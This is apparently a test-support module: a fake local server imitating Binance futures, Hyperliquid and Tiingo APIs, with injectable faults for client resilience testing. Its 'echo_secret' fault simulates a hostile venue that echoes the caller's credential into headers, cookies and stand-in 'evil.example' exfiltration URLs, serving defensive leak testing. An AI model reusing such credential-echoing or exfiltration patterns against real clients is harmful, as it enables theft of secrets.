"""A local stand-in for Binance USDⓈ-M, Hyperliquid and Tiingo on 127.0.0.1.

It serves the venues' real wire formats built from the committed fixtures (real data cut by
scripts/build_test_fixtures.py), keeps a settable clock (``now_ms``; only bars that have opened
by then are served, the still-open one with provisional values as a venue does), injects faults
on demand and records every request's arrival time.

Markets carry per-market precision and limits (Binance ``exchangeInfo`` filters ``LOT_SIZE``,
``PRICE_FILTER``, ``MIN_NOTIONAL`` from :data:`BN_RULES`; Hyperliquid ``meta`` ``szDecimals``
from :data:`HL_SETTINGS`); a market in ``delisted`` is served as Binance ``SETTLING`` /
Hyperliquid ``isDelisted``. ``positions`` (venue symbol -> signed contracts) are served as
Binance ``/fapi/v3/positionRisk`` (signed requests: an ``X-MBX-APIKEY`` header is required) and
Hyperliquid ``clearinghouseState`` (a ``user`` address is required).

Faults (``FakeVenue.inject``) stand for what a real or hostile venue does: a hang, HTTP 429 /
5xx (an HTML or a JSON body), any answer (``"body"``: ``status`` and ``value``, the body text),
a reset, a malformed or empty page, one field of a row replaced
by any value (``"field"``), a response trickled one byte at a time (``"trickle"``), and error
bodies and headers that echo the caller's credentials (``"echo_token"``, ``"echo_secret"``).
"""

from __future__ import annotations

import json
import socket
import struct
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email.utils import formatdate
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import polars as pl

from support import FIXTURES

HOUR = 3_600_000
FAULTS = ("timeout", "429", "500", "502", "503", "503_json", "reset", "malformed", "empty",
          "echo_token", "echo_secret", "field", "trickle", "body")
# published venue settings the raw files do not hold (documented in fixtures/README.md)
HL_SETTINGS = {"BTC": (5, 40), "ETH": (4, 25), "BERA": (1, 5)}
# Binance USDⓈ-M (tickSize, stepSize = minQty, MIN_NOTIONAL, pricePrecision,
# quantityPrecision) as the venue publishes them in exchangeInfo
BN_RULES = {"BTCUSDT": ("0.10", "0.001", "100", 2, 3), "ETHUSDT": ("0.01", "0.001", "20", 2, 3),
            "1000PEPEUSDT": ("0.0000001", "1", "5", 7, 0), "HYPEUSDT": ("0.001", "0.01", "5", 3, 2)}
BN_DEFAULT_RULES = ("0.000001", "0.001", "5", 6, 3)


@dataclass
class Fault:
    kind: str
    times: int | None = 1  # None: forever
    path: str | None = None  # substring of the path or Hyperliquid request type
    symbol: str | None = None
    retry_after: str = "1"
    field: str | int | None = None  # "field": the key (or list index) replaced in a row
    value: Any = None  # "field": the new value (a Raw for a literal JSON token)
    row: int = 0  # "field": which row of the page
    interval: float = 2.0  # "trickle": seconds between two bytes
    status: int = 500  # "body": the HTTP status of the answer


@dataclass(frozen=True)
class Raw:
    """A literal JSON token put into a page as is (``Raw("1e400")``: a number json.dumps
    cannot write)."""

    text: str


@dataclass
class Request:
    t: float
    method: str
    path: str
    params: dict[str, Any]
    headers: dict[str, str]


@dataclass
class FakeVenue:
    """State of the fake venue; ``url`` once started."""

    now_ms: int
    token: str = "tk9Q2vXb7LmP4sRw8ZyC3nHd6FgJ1aKe"  # random-looking, as a real one is
    hang_s: float = 1.0
    hl_candle_cap: int = 5000
    hl_funding_cap: int = 500
    faults: list[Fault] = field(default_factory=list)
    requests: list[Request] = field(default_factory=list)
    url: str = ""
    echo_count: int = 0  # "echo_secret" answers so far: each puts the secret one char later
    delisted: set[str] = field(default_factory=set)  # venue symbols no longer trading
    positions: dict[str, float] = field(default_factory=dict)  # venue symbol -> contracts
    closed: threading.Event = field(default_factory=threading.Event)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        self.bn_klines = pl.read_parquet(FIXTURES / "binance_klines_1h.parquet")
        self.bn_funding = pl.read_parquet(FIXTURES / "binance_funding.parquet")
        self.bn_oi = pl.read_parquet(FIXTURES / "binance_open_interest_1d.parquet")
        self.bn_oi_4h = pl.read_parquet(FIXTURES / "binance_open_interest_4h.parquet")
        self.hl_bars = pl.read_parquet(FIXTURES / "hyperliquid_ohlcv_1h.parquet").with_columns(
            pl.col("date").dt.epoch("ms").alias("t"))
        self.hl_funding = pl.read_parquet(FIXTURES / "hyperliquid_funding_1h.parquet")\
            .with_columns(pl.col("date").dt.epoch("ms").alias("t"))
        self.hl_oi = pl.read_parquet(FIXTURES / "hyperliquid_oi_usd.parquet")
        self.tiingo = pl.read_parquet(FIXTURES / "tiingo_binance_1h.parquet")

    # -------------------------------------------------------------- control
    def inject(self, kind: str, *, times: int | None = 1, path: str | None = None,
               symbol: str | None = None, retry_after: str = "1",
               field: str | int | None = None, value: Any = None, row: int = 0,
               interval: float = 2.0, status: int = 500) -> None:
        assert kind in FAULTS, kind
        assert (kind == "field") == (field is not None), "a field fault names its field"
        with self._lock:
            self.faults.append(Fault(kind, times, path, symbol, retry_after, field, value, row,
                                     interval, status))

    def take_fault(self, path: str, symbol: str | None) -> Fault | None:
        with self._lock:
            for f in self.faults:
                if f.path is not None and f.path not in path:
                    continue
                if f.symbol is not None and f.symbol != symbol:
                    continue
                if f.times is not None:
                    f.times -= 1
                    if f.times <= 0:
                        self.faults.remove(f)
                return f
        return None

    def clear(self) -> None:
        with self._lock:
            self.faults.clear()
            self.requests.clear()

    # -------------------------------------------------------------- Binance
    def _bn_rows(self, symbol: str) -> pl.DataFrame:
        return self.bn_klines.filter((pl.col("symbol") == symbol)
                                     & (pl.col("open_time") <= self.now_ms))

    def bn_exchange_info(self) -> dict[str, Any]:
        syms = []
        names = sorted(set(self.bn_klines["symbol"].to_list()))
        for name, status, quote in [*[(n, "TRADING", "USDT") for n in names],
                                    ("OLDUSDT", "SETTLING", "USDT"),
                                    ("BTCUSDC", "TRADING", "USDC")]:
            base = name[: -len(quote)]
            status = "SETTLING" if name in self.delisted else status
            tick, step, notional, price_dp, qty_dp = BN_RULES.get(name, BN_DEFAULT_RULES)
            syms.append({
                "symbol": name, "pair": name, "contractType": "PERPETUAL",
                "deliveryDate": 4133404800000, "onboardDate": 1569398400000, "status": status,
                "maintMarginPercent": "2.5000", "requiredMarginPercent": "5.0000",
                "baseAsset": base, "quoteAsset": quote, "marginAsset": quote,
                "pricePrecision": price_dp, "quantityPrecision": qty_dp,
                "baseAssetPrecision": 8,
                "quotePrecision": 8, "underlyingType": "COIN", "underlyingSubType": [],
                "triggerProtect": "0.0500", "liquidationFee": "0.012500",
                "marketTakeBound": "0.05", "maxMoveOrderLimit": 10000,
                "filters": [
                    {"filterType": "PRICE_FILTER", "minPrice": tick,
                     "maxPrice": "4529764", "tickSize": tick},
                    {"filterType": "LOT_SIZE", "stepSize": step, "maxQty": "1000000",
                     "minQty": step},
                    {"filterType": "MARKET_LOT_SIZE", "stepSize": step, "maxQty": "120000",
                     "minQty": step},
                    {"filterType": "MAX_NUM_ORDERS", "limit": 200},
                    {"filterType": "MIN_NOTIONAL", "notional": notional},
                ],
                "orderTypes": ["LIMIT", "MARKET", "STOP"], "timeInForce": ["GTC", "IOC"],
            })
        return {"timezone": "UTC", "serverTime": self.now_ms, "futuresType": "U_MARGINED",
                "rateLimits": [], "exchangeFilters": [], "assets": [], "symbols": syms}

    def bn_position_risk(self, headers: Any) -> Any:
        """``/fapi/v3/positionRisk`` (one-way mode): every position with its mark price."""
        if not headers.get("X-MBX-APIKEY"):
            return 401, {"code": -2014, "msg": "API-key format invalid."}
        out = []
        for sym, qty in sorted(self.positions.items()):
            rows = self._bn_rows(sym)
            mark = rows["close"][-1] if rows.height else 1.0
            out.append({"symbol": sym, "positionSide": "BOTH", "positionAmt": f"{qty}",
                        "entryPrice": f"{mark}", "breakEvenPrice": f"{mark}",
                        "markPrice": f"{mark}", "unRealizedProfit": "0.0",
                        "liquidationPrice": "0", "isolatedMargin": "0",
                        "notional": f"{qty * mark}", "marginAsset": "USDT",
                        "isolatedWallet": "0", "initialMargin": f"{abs(qty * mark) / 10}",
                        "maintMargin": f"{abs(qty * mark) / 100}",
                        "positionInitialMargin": f"{abs(qty * mark) / 10}",
                        "openOrderInitialMargin": "0", "adl": 1, "bidNotional": "0",
                        "askNotional": "0", "updateTime": self.now_ms})
        return 200, out

    def bn_leverage_brackets(self, headers: Any) -> Any:
        """``/fapi/v1/leverageBracket`` (signed): one bracket per market (ccxt reads it with
        positions)."""
        if not headers.get("X-MBX-APIKEY"):
            return 401, {"code": -2014, "msg": "API-key format invalid."}
        names = sorted(set(self.bn_klines["symbol"].to_list()))
        return 200, [{"symbol": n, "notionalCoef": 1.0, "brackets": [
            {"bracket": 1, "initialLeverage": 20, "notionalCap": 1e9, "notionalFloor": 0,
             "maintMarginRatio": 0.01, "cum": 0.0}]} for n in names]

    def bn_klines_rows(self, q: dict[str, str]) -> Any:
        step = {"1h": HOUR, "4h": 4 * HOUR, "1d": 24 * HOUR}.get(q.get("interval", ""))
        if step is None:
            return 400, {"code": -1120, "msg": "Invalid interval."}
        limit = min(int(q.get("limit", 500)), 1500)
        rows = self._bn_rows(q["symbol"]).with_columns(
            (pl.col("open_time") // step * step).alias("b"))
        rows = rows.group_by("b", maintain_order=True).agg(
            pl.col("open").first(), pl.col("high").max(), pl.col("low").min(),
            pl.col("close").last(), pl.col("volume").sum(), pl.col("quote_volume").sum(),
            pl.col("trades").sum()).rename({"b": "open_time"}).sort("open_time")
        if "startTime" in q:
            rows = rows.filter(pl.col("open_time") >= int(q["startTime"]))
        if "endTime" in q:
            rows = rows.filter(pl.col("open_time") <= int(q["endTime"]))
        rows = rows.head(limit) if "startTime" in q else rows.tail(limit)
        out = []
        for r in rows.iter_rows(named=True):
            o, h, lo, c, v, qv, n = (r["open"], r["high"], r["low"], r["close"], r["volume"],
                                      r["quote_volume"], r["trades"])
            if r["open_time"] + step > self.now_ms:  # still open: provisional values
                h, lo, c, v, qv, n = o, o, o, v / 2, qv / 2, n // 2
            out.append([r["open_time"], str(o), str(h), str(lo), str(c), str(v),
                        r["open_time"] + step - 1, str(qv), n, str(v / 2), str(qv / 2), "0"])
        return 200, out

    def bn_open_interest_hist(self, q: dict[str, str]) -> Any:
        if q.get("period") != "4h":  # the fixture holds the 4h statistics only
            return 200, []
        rows = self.bn_oi_4h.filter((pl.col("symbol") == q["symbol"])
                                    & (pl.col("timestamp") <= self.now_ms))
        if "startTime" in q:
            rows = rows.filter(pl.col("timestamp") >= int(q["startTime"]))
        if "endTime" in q:
            rows = rows.filter(pl.col("timestamp") <= int(q["endTime"]))
        rows = rows.head(min(int(q.get("limit", 30)), 500))
        return 200, [{"symbol": r["symbol"], "sumOpenInterest": f"{r['sum_open_interest']}",
                      "sumOpenInterestValue": f"{r['sum_open_interest_value']}",
                      "timestamp": r["timestamp"]} for r in rows.iter_rows(named=True)]

    def bn_funding_rows(self, q: dict[str, str]) -> Any:
        limit = min(int(q.get("limit", 100)), 1000)
        rows = self.bn_funding.filter((pl.col("symbol") == q["symbol"])
                                      & (pl.col("funding_time") <= self.now_ms))
        if "startTime" in q:
            rows = rows.filter(pl.col("funding_time") >= int(q["startTime"]))
        if "endTime" in q:
            rows = rows.filter(pl.col("funding_time") <= int(q["endTime"]))
        rows = rows.head(limit)
        closes = dict(zip(*self._bn_rows(q["symbol"]).select(
            pl.col("open_time") + HOUR, "close").to_dict().values(), strict=True))
        return 200, [{"symbol": r["symbol"], "fundingTime": r["funding_time"],
                      "fundingRate": f"{r['funding_rate']:.8f}",
                      "markPrice": str(closes.get(r["funding_time"] // HOUR * HOUR, ""))}
                     for r in rows.iter_rows(named=True)]

    def bn_ticker(self, q: dict[str, str]) -> Any:
        out = []
        for sym in sorted(set(self.bn_klines["symbol"].to_list())):
            if "symbol" in q and q["symbol"] != sym:
                continue
            day = self._bn_rows(sym).tail(24)
            if day.height == 0:
                continue
            out.append({
                "symbol": sym, "priceChange": "0", "priceChangePercent": "0",
                "weightedAvgPrice": str(day["quote_volume"].sum() / day["volume"].sum()),
                "lastPrice": str(day["close"][-1]), "lastQty": "1",
                "openPrice": str(day["open"][0]), "highPrice": str(day["high"].max()),
                "lowPrice": str(day["low"].min()), "volume": str(day["volume"].sum()),
                "quoteVolume": str(day["quote_volume"].sum()),
                "openTime": day["open_time"][0], "closeTime": self.now_ms,
                "firstId": 1, "lastId": 2, "count": int(day["trades"].sum()),
            })
        return 200, (out[0] if "symbol" in q and out else out)

    def bn_open_interest(self, q: dict[str, str]) -> Any:
        rows = self.bn_oi.filter(pl.col("symbol") == q["symbol"])
        if rows.height == 0:
            return 400, {"code": -1121, "msg": "Invalid symbol."}
        return 200, {"symbol": q["symbol"], "openInterest": str(rows["sum_open_interest"][0]),
                     "time": self.now_ms}

    # -------------------------------------------------------------- Hyperliquid
    def hl_info(self, body: dict[str, Any]) -> Any:
        kind = body.get("type")
        coins = sorted(HL_SETTINGS)
        if kind in ("meta", "metaAndAssetCtxs"):
            universe = [{"name": c, "szDecimals": HL_SETTINGS[c][0],
                         "maxLeverage": HL_SETTINGS[c][1], "marginTableId": HL_SETTINGS[c][1],
                         **({"isDelisted": True} if c in self.delisted else {})}
                        for c in coins]
            meta = {"universe": universe, "marginTables": []}
            if kind == "meta":
                return 200, meta
            ctxs = []
            for c in coins:
                day = self.hl_bars.filter((pl.col("coin") == c) & (pl.col("t") <= self.now_ms))\
                    .tail(24)
                mid = day["close"][-1]
                oi = self.hl_oi.filter(pl.col("coin") == c)
                fund = self.hl_funding.filter((pl.col("coin") == c)
                                              & (pl.col("t") <= self.now_ms)).tail(1)
                ctxs.append({
                    "funding": str(fund["funding_rate"][0]) if fund.height else "0.0",
                    "openInterest": str(oi["oi_usd"][0] / mid) if oi.height else "0.0",
                    "prevDayPx": str(day["open"][0]),
                    "dayNtlVlm": str((day["volume"] * day["close"]).sum()),
                    "premium": "0.0", "oraclePx": str(mid), "markPx": str(mid),
                    "midPx": str(mid), "impactPxs": [str(mid), str(mid)],
                    "dayBaseVlm": str(day["volume"].sum()),
                })
            return 200, [meta, ctxs]
        if kind == "spotMeta":  # ccxt loads currencies from it; this venue lists only USDC
            return 200, {"universe": [], "tokens": [{
                "name": "USDC", "szDecimals": 8, "weiDecimals": 8, "index": 0,
                "tokenId": "0x6d1e7cde53ba9467b783cb7c530ce054", "isCanonical": True,
                "evmContract": None, "fullName": None}]}
        if kind == "clearinghouseState":
            if not body.get("user"):
                return 422, "Failed to deserialize the JSON body into the target type"
            return 200, self.hl_clearinghouse()
        if kind == "candleSnapshot":
            req = body["req"]
            if req.get("interval") != "1h":
                return 500, None
            rows = self.hl_bars.filter(
                (pl.col("coin") == req["coin"]) & (pl.col("t") >= int(req["startTime"]))
                & (pl.col("t") <= int(req["endTime"])) & (pl.col("t") <= self.now_ms)
            ).head(self.hl_candle_cap)
            out = []
            for r in rows.iter_rows(named=True):
                o, h, lo, c, v = r["open"], r["high"], r["low"], r["close"], r["volume"]
                if r["t"] + HOUR > self.now_ms:
                    h, lo, c, v = o, o, o, v / 2
                out.append({"t": r["t"], "T": r["t"] + HOUR - 1, "s": r["coin"], "i": "1h",
                            "o": str(o), "c": str(c), "h": str(h), "l": str(lo), "v": str(v),
                            "n": None})
            # the raw files carry no trade count: drop the key rather than invent one
            for row in out:
                row.pop("n")
            return 200, out
        if kind == "fundingHistory":
            end = int(body.get("endTime", self.now_ms))
            rows = self.hl_funding.filter(
                (pl.col("coin") == body["coin"]) & (pl.col("t") >= int(body["startTime"]))
                & (pl.col("t") <= end) & (pl.col("t") <= self.now_ms)
            ).head(self.hl_funding_cap)
            return 200, [{"coin": r["coin"], "fundingRate": repr(r["funding_rate"]),
                          "premium": "0.0", "time": r["t"]} for r in rows.iter_rows(named=True)]
        return 422, None

    def hl_clearinghouse(self) -> dict[str, Any]:
        """``clearinghouseState``: every position (``szi`` signed) at its last close."""
        assets = []
        for coin, qty in sorted(self.positions.items()):
            bars = self.hl_bars.filter((pl.col("coin") == coin) & (pl.col("t") <= self.now_ms))
            mark = bars["close"][-1] if bars.height else 1.0
            value = abs(qty) * mark
            assets.append({"type": "oneWay", "position": {
                "coin": coin, "szi": f"{qty}", "entryPx": f"{mark}",
                "positionValue": f"{value}", "unrealizedPnl": "0.0", "returnOnEquity": "0.0",
                "liquidationPx": None, "marginUsed": f"{value / 10}", "maxLeverage": "40",
                "leverage": {"type": "cross", "value": 10},
                "cumFunding": {"allTime": "0.0", "sinceChange": "0.0", "sinceOpen": "0.0"}}})
        total = sum(abs(q) for q in self.positions.values())
        summary = {"accountValue": "1000000.0", "totalNtlPos": f"{total}",
                   "totalRawUsd": "1000000.0", "totalMarginUsed": "0.0"}
        return {"assetPositions": assets, "crossMarginSummary": summary,
                "marginSummary": summary, "crossMaintenanceMarginUsed": "0.0",
                "withdrawable": "1000000.0", "time": self.now_ms}

    # -------------------------------------------------------------- Tiingo
    def tiingo_meta(self, q: dict[str, str]) -> Any:
        tickers = sorted(set(self.tiingo["ticker"].to_list()))
        if "tickers" in q:
            tickers = [t for t in tickers if t in q["tickers"].split(",")]
        return 200, [{"ticker": t, "baseCurrency": t[:-4], "quoteCurrency": "usdt",
                      "name": f"{t[:-4].upper()}/USDT", "description": ""} for t in tickers]

    def tiingo_prices(self, q: dict[str, str]) -> Any:
        minutes = {"1hour": 60, "4hour": 240, "1day": 1440}.get(q.get("resampleFreq", "1day"))
        if minutes is None:
            return 400, {"detail": "resampleFreq not supported by the fake venue"}
        out = []
        for t in q.get("tickers", "").split(","):
            rows = self.tiingo.filter((pl.col("ticker") == t)
                                      & (pl.col("open_time") <= self.now_ms))
            if rows.height == 0:
                continue
            if "startDate" in q:
                lo = int(datetime.fromisoformat(q["startDate"]).replace(tzinfo=UTC)
                         .timestamp() * 1000)
                rows = rows.filter(pl.col("open_time") >= lo)
            if "endDate" in q:
                hi = int(datetime.fromisoformat(q["endDate"]).replace(tzinfo=UTC)
                         .timestamp() * 1000) + 86_400_000
                rows = rows.filter(pl.col("open_time") < hi)
            step = minutes * 60_000
            agg = rows.with_columns((pl.col("open_time") // step * step).alias("b")).group_by(
                "b", maintain_order=True).agg(
                pl.col("open").first(), pl.col("high").max(), pl.col("low").min(),
                pl.col("close").last(), pl.col("volume").sum(),
                pl.col("quote_volume").sum(), pl.col("trades").sum()).sort("b")
            data = [{"date": datetime.fromtimestamp(r["b"] / 1000, tz=UTC).isoformat(),
                     "open": r["open"], "high": r["high"], "low": r["low"], "close": r["close"],
                     "volume": r["volume"], "volumeNotional": r["quote_volume"],
                     "tradesDone": r["trades"]} for r in agg.iter_rows(named=True)]
            item: dict[str, Any] = {"ticker": t, "baseCurrency": t[:-4],
                                    "quoteCurrency": "usdt", "priceData": data}
            if q.get("includeRawExchangeData") == "true":
                item["exchangeData"] = {"BINANCE": data[-1:], "GDAX": data[-1:]}
            out.append(item)
        return 200, out


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.0"

    def log_message(self, format: str, *args: Any) -> None:
        return

    def date_time_string(self, timestamp: float | None = None) -> str:
        return formatdate(self.server.venue.now_ms / 1000, usegmt=True)

    def do_GET(self) -> None:
        self._handle("GET", {})

    def do_POST(self) -> None:
        n = int(self.headers.get("Content-Length") or 0)
        try:
            body = json.loads(self.rfile.read(n) or b"{}")
        except ValueError:
            body = {}
        self._handle("POST", body)

    def _handle(self, method: str, body: dict[str, Any]) -> None:
        venue = self.server.venue
        parts = urlsplit(self.path)
        q = {k: v[-1] for k, v in parse_qs(parts.query).items()}
        params = {**q, **body}
        venue.requests.append(Request(time.perf_counter(), method, parts.path, params,
                                      dict(self.headers)))
        route = parts.path + (f"#{body.get('type')}" if method == "POST" else "")
        symbol = q.get("symbol") or body.get("coin") or (body.get("req") or {}).get("coin") \
            or q.get("tickers")
        fault = venue.take_fault(route, symbol)
        if fault is not None and fault.kind not in ("field", "trickle") and self._fault(fault):
            return
        status, payload = self._route(method, parts.path, q, body)
        data = json.dumps(payload).encode()
        if fault is not None and fault.kind == "field":
            data = _replace_field(payload, fault)
        if fault is not None and fault.kind == "trickle":
            self._trickle(status, data, fault.interval)
            return
        self._send(status, data)

    def _fault(self, fault: Fault) -> bool:
        kind = fault.kind
        if kind == "timeout":
            time.sleep(self.server.venue.hang_s)
            return False  # answer late; the client has given up by then
        if kind == "reset":
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                       struct.pack("ii", 1, 0))
            self.connection.close()
            return True
        if kind == "429":
            self._send(429, b'{"code":-1003,"msg":"Too many requests."}',
                       {"Retry-After": fault.retry_after})
        elif kind in ("500", "502", "503"):
            self._send(int(kind), b"<html><body>Bad gateway</body></html>")
        elif kind == "503_json":  # a JSON error body, as Binance's gateway sends one
            self._send(503, b'{"code":-1001,"msg":"Internal error; unable to process your '
                       b'request. Please try again."}')
        elif kind == "malformed":
            self._send(200, b'[[1709251200000,"61000.1","61100.0"')
        elif kind == "empty":
            self._send(200, b"[]")
        elif kind == "echo_token":
            auth = self.headers.get("Authorization", "")
            self._send(500, json.dumps({"detail": f"upstream failed for {auth} "
                                        f"at {self.path}"}).encode())
        elif kind == "echo_secret":
            self._echo_secret()
        elif kind == "body":
            self._send(fault.status, str(fault.value).encode())
        return True

    def _echo_secret(self) -> None:
        """Echo the caller's credential everywhere: after n filler characters (n = 0, 1, 2, ...
        on successive answers, so that a cut at any length meets it), cut at every offset, in
        headers and in URLs; 5xx (retried) and 401 (fatal) in turn."""
        venue = self.server.venue
        with venue._lock:
            n = venue.echo_count
            venue.echo_count += 1
        auth = self.headers.get("Authorization", "")
        secret = auth.split(" ", 1)[-1]
        pieces = [secret[i:] for i in range(len(secret))] + [secret[:i] for i in
                                                             range(1, len(secret))]
        detail = ("x" * n + secret + " | " + " ".join(pieces) + f" | {auth} | "
                  f"http://evil.example/cb?token={secret}&k={secret[3:12]}")
        status = 401 if n % 3 == 2 else 500
        self._send(status, json.dumps({"detail": detail}).encode(), {
            "X-Echo": secret, "Location": f"http://evil.example/?token={secret}",
            "WWW-Authenticate": f'Token realm="{secret}"', "Set-Cookie": f"s={secret}"})

    def _trickle(self, status: int, data: bytes, interval: float) -> None:
        """Send the whole answer, status line included, one byte every ``interval`` seconds
        (each read returns in time, so a per-read timeout never fires)."""
        head = (f"HTTP/1.0 {status} OK\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(data)}\r\nDate: {self.date_time_string()}\r\n\r\n")
        closed = self.server.venue.closed
        try:
            for byte in head.encode() + data:
                if closed.wait(interval):
                    return
                self.wfile.write(bytes([byte]))
        except OSError:
            return  # the client gave up and closed the connection

    def _route(self, method: str, path: str, q: dict[str, str], body: dict[str, Any]) -> Any:
        venue = self.server.venue
        if path.startswith("/tiingo/"):
            auth = self.headers.get("Authorization", "")
            if auth != f"Token {venue.token}" and q.get("token") != venue.token:
                return 401, {"detail": "Invalid token."}
            if path == "/tiingo/crypto":
                return venue.tiingo_meta(q)
            if path == "/tiingo/crypto/prices":
                return venue.tiingo_prices(q)
        if method == "POST" and path == "/info":
            return venue.hl_info(body)
        routes = {
            "/fapi/v1/exchangeInfo": lambda: (200, venue.bn_exchange_info()),
            "/fapi/v1/klines": lambda: venue.bn_klines_rows(q),
            "/fapi/v1/fundingRate": lambda: venue.bn_funding_rows(q),
            "/fapi/v1/ticker/24hr": lambda: venue.bn_ticker(q),
            "/fapi/v1/openInterest": lambda: venue.bn_open_interest(q),
            "/fapi/v1/time": lambda: (200, {"serverTime": venue.now_ms}),
            "/fapi/v3/positionRisk": lambda: venue.bn_position_risk(self.headers),
            "/fapi/v1/leverageBracket": lambda: venue.bn_leverage_brackets(self.headers),
            "/futures/data/openInterestHist": lambda: venue.bn_open_interest_hist(q),
        }
        if path in routes:
            return routes[path]()
        return 404, {"code": -5000, "msg": f"Path {path}, Method {method} is invalid"}

    def _send(self, status: int, data: bytes, headers: dict[str, str] | None = None) -> None:
        try:
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(data)
        except OSError:
            pass

    def finish(self) -> None:
        try:
            super().finish()
        except OSError:
            pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    venue: FakeVenue


def serve(venue: FakeVenue) -> Iterator[FakeVenue]:
    """Run ``venue`` on 127.0.0.1 (port 0) for the duration of a with-block / fixture."""
    server = _Server(("127.0.0.1", 0), _Handler)
    server.venue = venue
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    venue.url = f"http://127.0.0.1:{server.server_address[1]}"
    venue.closed.clear()
    try:
        yield venue
    finally:
        venue.closed.set()  # ends any trickle
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _replace_field(payload: Any, fault: Fault) -> bytes:
    """``payload`` as JSON with ``payload[row][field]`` replaced by ``fault.value`` (in which
    any :class:`Raw`, however deep, is written as its literal text)."""
    raws: list[str] = []

    def mark(value: Any) -> Any:
        if isinstance(value, Raw):
            raws.append(value.text)
            return f"__raw_{len(raws) - 1}__"
        if isinstance(value, list):
            return [mark(v) for v in value]
        if isinstance(value, dict):
            return {k: mark(v) for k, v in value.items()}
        return value

    rows = payload if isinstance(payload, list) else [payload]
    if rows and fault.row < len(rows):
        rows[fault.row][fault.field] = mark(fault.value)
    data = json.dumps(payload)
    for i, text in enumerate(raws):
        data = data.replace(json.dumps(f"__raw_{i}__"), text)
    return data.encode()


def ms(*args: int) -> int:
    """Epoch milliseconds of a UTC datetime given as (year, month, day, hour, minute)."""
    return int(datetime(*args, tzinfo=UTC).timestamp() * 1000)  # type: ignore[misc]
